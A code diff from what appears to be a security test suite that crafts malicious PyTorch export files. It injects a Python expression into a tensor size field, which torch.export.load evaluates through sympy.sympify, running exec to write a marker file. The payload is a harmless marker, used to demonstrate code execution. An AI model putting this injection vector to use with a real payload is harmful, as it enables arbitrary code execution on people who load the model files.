@@ -108,21 +108,16 @@ def pt2_graph_call(base: Path, dst: Path, marker: Path) -> Path:
 
 
 def pt2_sympy_expr(base: Path, dst: Path, marker: Path) -> Path:
-    """A symbolic expression (parsed with sympy.sympify, i.e. eval) that writes the marker."""
+    """A tensor size given as a symbolic expression: torch.export.load parses it with
+    ``sympy.sympify``, which evaluates it as Python (this one writes the marker)."""
+    code = f"__import__('builtins').exec(\"open({str(marker)!r},'w')\") or 1"
 
     def edit(name: str, data: bytes) -> bytes:
         if name.endswith("models/model.json"):
             doc = json.loads(data)
-            doc["range_constraints"] = {
-                "s0": {"min_val": 1, "max_val": 8},
-            }
-            doc["graph_module"]["graph"]["sym_int_values"] = {
-                "s0": {
-                    "as_expr": {
-                        "expr_str": f"__import__('builtins').exec(\"open({str(marker)!r},'w')\")"
-                    }
-                }
-            }
+            values = doc["graph_module"]["graph"]["tensor_values"]
+            first = values[next(iter(values))]
+            first["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 1}}}
             return json.dumps(doc).encode()
         return data
 
